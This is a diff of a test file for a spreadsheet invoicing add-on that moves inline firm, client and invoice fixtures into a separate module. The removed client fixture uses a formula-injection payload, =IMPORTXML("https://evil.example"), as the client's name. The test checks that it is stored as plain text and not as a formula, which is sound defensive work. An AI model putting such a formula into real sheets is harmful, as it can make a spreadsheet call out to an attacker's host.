@@ -1,69 +1,7 @@
 /** The built add-on used as a firm does, in one sheet: from an empty spreadsheet to a reminder, counting what each step costs. */
 import { beforeAll, describe, expect, test } from 'vitest';
 import { openWorkspace, type Workspace } from '../workspace/workspace.ts';
-
-const SETTINGS = {
-  companyName: 'Atelier Brun',
-  legalForm: 'SARL',
-  shareCapital: '10 000 €',
-  legalId: '732 829 320',
-  registration: 'RCS Paris 732 829 320',
-  vatNumber: 'FR44732829320',
-  addressLine1: '3 rue des Lilas',
-  postalCode: '75011',
-  city: 'Paris',
-  email: 'compta@atelier-brun.example',
-  bankFreshnessDays: '90',
-  iban: 'FR7630006000011234567890189',
-};
-
-const CLIENT = {
-  code: '',
-  name: '=IMPORTXML("https://evil.example")',
-  kind: 'company',
-  legalId: '',
-  vatNumber: '',
-  addressLine1: '1 place du Marché',
-  addressLine2: '',
-  postalCode: '69001',
-  city: 'Lyon',
-  country: 'FR',
-  language: 'fr',
-  email: 'achats@client.example',
-  cc: '',
-  phone: '+33 4 72 00 00 00',
-  paymentTerms: '30 jours',
-  creditLimit: '',
-  calendar: '',
-  owner: '',
-  notes: '007',
-};
-
-const draft = (client: string) => ({
-  id: 'D-ABCDEF12',
-  client,
-  type: 'invoice',
-  issueDate: '',
-  dueDate: '',
-  currency: '',
-  corrects: '',
-  reference: 'BC 12',
-  serviceDate: '2026-11-20',
-  deliveryAddress: '',
-  notes: '',
-  ready: true,
-  lines: [
-    {
-      description: 'Conseil',
-      quantity: '2',
-      unit: 'jour',
-      unitPrice: '650',
-      discountPercent: '',
-      vatRate: '20',
-      vatCategory: 'S',
-    },
-  ],
-});
+import { CLIENT, draftFor, FIRM } from './firm-sheet.ts';
 
 let workspace: Workspace;
 let client = '';
@@ -79,8 +17,8 @@ const rows = (title: string) => workspace.book.tabs.find((tab) => tab.title === 
 describe('a firm’s first day', () => {
   test('sets up and says who it is', () => {
     expect(call('ui_setUp')).toMatchObject({ ok: true });
-    expect(call('ui_saveSettings', { values: SETTINGS })).toMatchObject({ ok: true });
-    expect(call('ui_home')).toMatchObject({ ok: true, value: { isSetUp: true } });
+    expect(call('ui_saveSettings', { values: FIRM })).toMatchObject({ ok: true });
+    expect(call('ui_home', { renew: false })).toMatchObject({ ok: true, value: { isSetUp: true } });
   });
   test('takes down a client, whose name stays a name', () => {
     const saved = call('ui_saveClient', CLIENT);
@@ -91,7 +29,7 @@ describe('a firm’s first day', () => {
     expect(workspace.book.tabs.flatMap((tab) => [...tab.formulas.values()])).toEqual([]);
   });
   test('writes, checks and issues an invoice, which leaves by mail with its PDF', () => {
-    expect(call('ui_saveDraft', draft(client))).toMatchObject({
+    expect(call('ui_saveDraft', draftFor(client))).toMatchObject({
       ok: true,
       value: { total: expect.anything() },
     });
